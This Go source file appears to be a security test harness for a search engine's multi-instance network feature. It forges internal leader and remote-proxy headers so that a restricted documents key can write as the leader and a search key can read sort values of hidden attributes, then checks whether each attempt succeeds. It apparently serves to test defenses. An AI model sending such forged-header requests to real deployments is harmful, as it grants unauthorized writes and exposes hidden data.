package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"
)

// The attacks of this file send headers that only instances of a network send. They are after rights, not after harm: see attack.gains.

// leading has the server lead a network of its own.
func leading(s *server) error {
	body := fmt.Sprintf(`{"self":"self","leader":"self","remotes":{"self":{"url":"http://%s","writeApiKey":%q}},"shards":{"x":{"remotes":["self"]}}}`, s.address, masterKey)
	if err := s.task("PATCH", "/network", masterKey, []byte(body)); err != nil {
		return err
	}
	answer, err := s.do("GET", "/network", masterKey, nil)
	if err != nil {
		return err
	}
	var now struct{ Version string }
	s.leader = "self"
	if err = json.Unmarshal(answer, &now); err == nil {
		s.version = now.Version // the attackers know it anyway
	}
	return err
}

// following has the server follow a leader, which is away.
func following(s *server) error {
	s.leader, s.version = "leader", "01a20340-c0c4-7cb1-b458-c00767017d4e"
	body := `{"self":"self","leader":"leader","remotes":{"leader":{"url":"http://127.0.0.1:1"},"self":{"url":"http://` + s.address + `"}},"shards":{"x":{"remotes":["self"]}},"previousRemotes":{},"previousShards":{}}`
	_, _, err := s.withHeaders("PATCH", "/network", masterKey, body, s.asLeader(0))
	return err
}

// asLeader are the headers of the n-th write of the leader.
func (s *server) asLeader(n int) map[string]string {
	return map[string]string{"Svc-Proxy-Origin-Remote": s.leader, "Svc-Proxy-Origin-TaskUid": fmt.Sprint(n), "Svc-Proxy-Origin-Network-Version": s.version, "Svc-Proxy-Origin-Nonce": fmt.Sprint("forged", n)}
}

// withHeaders sends JSON, and returns up to a mebibyte of the response.
func (s *server) withHeaders(method, path, key, body string, headers map[string]string) (status int, answer []byte, err error) {
	r, err := http.NewRequest(method, "http://"+s.address+path, strings.NewReader(body))
	if err != nil {
		return 0, nil, err
	}
	r.Header.Set("Authorization", "Bearer "+key)
	r.Header.Set("Content-Type", "application/json")
	for name, value := range headers {
		r.Header.Set(name, value)
	}
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	answer, err = io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err == nil && resp.StatusCode >= 400 {
		err = fmt.Errorf("%s %s: %s: %.300s", method, path, resp.Status, answer)
	}
	return resp.StatusCode, answer, err
}

// playLeader writes as the leader would, with a key for documents: each attacker under numbers of its own.
func playLeader(s *server, i int, stop <-chan struct{}) {
	for n := i * 1_000_000; !over(stop); n++ {
		if _, _, err := s.withHeaders("POST", "/indexes/films/documents", s.dataKey, `[{"id":1000000,"title":"forged"}]`, s.asLeader(n)); err != nil {
			pauseFor(stop, 5*time.Millisecond)
		}
	}
}

// forged says which writes came as from the leader.
func forged(s *server) (string, error) {
	_, answer, err := s.withHeaders("GET", "/tasks?types=documentAdditionOrUpdate&limit=100", masterKey, "", nil)
	if err == nil && bytes.Contains(answer, []byte(`"origin"`)) {
		return "writes as the leader", nil
	}
	return "", err
}

// hiding has searches not show one attribute.
func hiding(s *server) error {
	return s.task("PATCH", "/indexes/films/settings", masterKey, []byte(`{"displayedAttributes":["id","title"]}`))
}

// mergingSearch sorts by an attribute that is hidden.
const mergingSearch = `{"federation":{"limit":1000},"queries":[{"indexUid":"films","q":"ka","sort":["rating:asc"]}]}`

var asRemote = map[string]string{"Svc-Proxy-Search": "true"}

// playRemote searches as another instance would, with a search key.
func playRemote(s *server, _ int, stop <-chan struct{}) {
	for !over(stop) {
		if _, _, err := s.withHeaders("POST", multiSearch, s.searchKey, mergingSearch, asRemote); err != nil {
			pauseFor(stop, 5*time.Millisecond)
		}
	}
}

// shown says what such a search shows.
func shown(s *server) (string, error) {
	status, answer, err := s.withHeaders("POST", multiSearch, s.searchKey, mergingSearch, asRemote)
	switch {
	case bytes.Contains(answer, []byte("weightedScoreValues")):
		return "values that are not displayed", nil
	case status == http.StatusForbidden: // as it should be
		return "", nil
	}
	return "", err
}
